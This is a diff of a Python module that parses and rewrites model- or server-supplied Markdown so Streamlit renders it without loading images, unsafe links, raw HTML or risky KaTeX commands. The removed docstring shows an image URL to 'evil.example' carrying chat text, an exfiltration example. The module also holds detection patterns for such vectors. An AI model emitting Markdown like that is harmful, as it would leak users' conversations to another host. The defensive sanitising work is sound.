@@ -1,47 +1,144 @@
-"""Markdown from a model, made safe to render.
+"""Markdown from outside (a model, a server, a link, an import), made safe to render.
 
-Streamlit already renders markdown without raw HTML. What is left is images: a
-crafted answer such as ``![x](https://evil.example/?q=<chat text>)`` would make
-the browser fetch that URL, sending chat content to another host. Unless the
-person allows images for a card, image syntax becomes a plain link that the
-browser does not fetch. Code (fences and inline spans) is left as written: it
-never renders images.
+An answer is text from a server we do not control. Rendered as Markdown it
+could make the browser fetch an image URL (sending chat text to another host),
+carry a ``javascript:`` or ``data:`` link, raw HTML, or a KaTeX ``\\href``.
+Finding such things with regular expressions fails: the renderer in the browser
+reads the text differently (escaped ``!``, code spans that are not, fences that
+do not close), and every difference is a bypass.
+
+So the text is *parsed*, with ``markdown-it-py`` (the maintained Python port
+of the reference JavaScript markdown-it; CommonMark plus GFM tables and
+strikethrough, ``$``-math from ``mdit-py-plugins`` as remark-math reads it,
+bare-URL links by ``linkify-it-py`` as remark-gfm makes them), and the syntax
+tree is written back out by :mod:`playground.markdown_writer` in a canonical,
+fully escaped form: images become inert text (with a link to the picture, not
+fetched), raw HTML becomes visible text or code, only ``http``, ``https`` and
+``mailto`` links stay live, and formulas that use KaTeX's ``\\href``, ``\\url``,
+``\\includegraphics``, ``\\html…`` or macro definitions are shown as code.
+The result is parsed once more and checked; anything unexpected (an unknown
+node, nesting deeper than the parser follows, a check that fails) shows the
+whole text as a code block instead, which no parser reads as anything else.
+
+Why this and not HTML sanitised with ``nh3``: Streamlit's own renderer keeps
+what people read answers for (KaTeX math, highlighted code with a copy button,
+its table and theme styles), and the escaped output leaves it nothing to
+interpret differently: the only unescaped text is inside code fences and
+spans that are longer than any backtick run they hold. Handing Streamlit HTML
+would mean ``unsafe_allow_html`` (its markdown parser would then read our HTML
+again) or ``st.html`` (none of those styles, no math).
 """
 
 from __future__ import annotations
 
 import re
+from functools import cache, lru_cache
 
-# ![alt](url "title") and ![alt][ref]; alt text may not contain brackets.
-_INLINE_IMAGE = re.compile(r"!\[([^\[\]]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'][^\"']*[\"'])?\s*\)")
-_REF_IMAGE = re.compile(r"!\[([^\[\]]*)\]\[([^\[\]]*)\]")
-# Fenced blocks (``` or ~~~, to the closing fence or the end) and inline code spans.
-_CODE = re.compile(r"(^|\n)(```|~~~)[^\n]*\n.*?(\n\2[^\n]*(?=\n|$)|$)|(`+)[^`]*?\4", re.DOTALL)
+from markdown_it import MarkdownIt
+from markdown_it.token import Token
+from markdown_it.tree import SyntaxTreeNode
+from mdit_py_plugins.dollarmath import dollarmath_plugin
+
+from playground.markdown_writer import Policy, Unwritable, Writer, escape, fence_lines
+
+__all__ = ["as_code", "escape", "neutralise", "parser", "plain"]
+
+MAX_NESTING = 40  # deeper text is shown as code (markdown-it stops following it)
+_LIVE_SCHEMES = re.compile(r"(?:https?|mailto):", re.IGNORECASE)
+_IMAGE_SCHEMES = re.compile(r"https?:", re.IGNORECASE)
+# KaTeX commands that make links, load images, set HTML attributes, or define macros
+# (a macro could assemble one of the others).
+_RISKY_TEX = re.compile(
+    r"\\html|\\(?:href|url|includegraphics|def|gdef|edef|xdef|let|futurelet|newcommand|"
+    r"renewcommand|providecommand|csname|expandafter|char)(?![A-Za-z])",
+)
+# Math text that another parser, not seeing math, could read as an image, link or HTML.
+_RISKY_OUTSIDE_MATH = re.compile(r"!\[|\]\(|\]:|<[A-Za-z/!?]|`")
 
 
-def _block(text: str) -> str:
-    def inline(match: re.Match[str]) -> str:
-        alt = match.group(1).strip() or "image"
-        url = match.group(2)
-        # Starts with the icon, so a "!" before it cannot make an image again.
-        return f"🖼 [{alt} (image not loaded)]({url})" if url else f"🖼 {alt}"
+def _link_ok(href: str) -> bool:
+    return bool(_LIVE_SCHEMES.match(href)) and not re.search(r"[\s<>\x00-\x1f]", href)
 
-    def reference(match: re.Match[str]) -> str:
-        alt = match.group(1).strip() or "image"
-        return f"🖼 [{alt} (image not loaded)][{match.group(2) or match.group(1)}]"
 
-    text = _REF_IMAGE.sub(reference, _INLINE_IMAGE.sub(inline, text))
-    # Whatever image syntax is left (nested brackets, odd spacing) loses its "!".
-    return text.replace("![", "\\![")
+def _math_ok(tex: str) -> bool:
+    return not _RISKY_TEX.search(tex) and not _RISKY_OUTSIDE_MATH.search(tex)
+
+
+def _image_ok(src: str) -> bool:
+    return bool(_IMAGE_SCHEMES.match(src)) and _link_ok(src)
+
+
+def _never(_: str) -> bool:
+    return False
+
+
+@cache
+def parser() -> MarkdownIt:
+    """The parser the neutraliser reads with (built once; markdown-it is reentrant)."""
+    md = MarkdownIt("commonmark", {"maxNesting": MAX_NESTING, "linkify": True})
+    md.enable(["table", "strikethrough", "linkify"])
+    return md.use(dollarmath_plugin, allow_space=True, allow_digits=True, double_inline=True)
+
+
+def _policy(images: bool) -> Policy:
+    return Policy(link_ok=_link_ok, image_ok=_image_ok if images else _never, math_ok=_math_ok)
+
+
+def as_code(text: str) -> str:
+    """``text`` as a code block: shown exactly as written, read as nothing else."""
+    return "\n".join(fence_lines(text if text.endswith("\n") else text + "\n", "text")) + "\n"
+
+
+def plain(text: str) -> str:
+    """Markdown that shows ``text`` as plain text: for names, titles, notices, errors.
+
+    Lines stay lines (hard breaks); nothing in ``text`` is read as Markdown.
+    """
+    lines = [escape(line.strip()) for line in text.replace("\r", "\n").split("\n")]
+    return "\\\n".join(line for line in lines if line)
+
+
+def _safe(tokens: list[Token], images: bool) -> bool:
+    """The written Markdown, parsed again, holds nothing that loads or runs."""
+    for token in tokens:
+        if token.level >= MAX_NESTING - 2 or token.type.startswith("html"):
+            return False
+        if token.type == "image" and not (images and _image_ok(str(token.attrs.get("src")))):
+            return False
+        if token.type == "link_open" and not _link_ok(str(token.attrs.get("href", ""))):
+            return False
+        if token.type.startswith("math") and not _math_ok(token.content):
+            return False
+        if token.children and not _safe(token.children, images):
+            return False
+    return True
+
+
+@lru_cache(maxsize=256)  # a pure function of its arguments; reruns redraw the same answers
+def neutralise(text: str, images: bool = False) -> str:
+    """Markdown for Streamlit that shows ``text`` and loads, links or runs nothing unsafe.
+
+    With ``images`` (a person allowed them for this card), ``http(s)`` images stay.
+    """
+    md = parser()
+    try:
+        tokens = md.parse(text)
+        if any(token.level >= MAX_NESTING - 2 for token in tokens):
+            # The parser stopped following this nesting: the parts between blank
+            # lines are written one by one, and only the too-deep ones as code.
+            parts = [part for part in text.split("\n\n") if part.strip()]
+            joined = "\n".join(neutralise(part, images) for part in parts)
+            if len(parts) > 1 and _safe(md.parse(joined), images):
+                return joined
+            return as_code(text)
+        written = Writer(_policy(images)).document(SyntaxTreeNode(tokens))
+        if _safe(md.parse(written), images):
+            return written
+    except (Unwritable, RecursionError):
+        pass
+    return as_code(text)
 
 
 def block_images(text: str) -> str:
-    """Replace image syntax outside code with a link to the image (not fetched)."""
-    out: list[str] = []
-    pos = 0
-    for match in _CODE.finditer(text):
-        out.append(_block(text[pos : match.start()]))
-        out.append(match.group(0))
-        pos = match.end()
-    out.append(_block(text[pos:]))
-    return "".join(out)
+    """Images as inert text (the earlier name of ``neutralise`` with images off)."""
+    return neutralise(text)
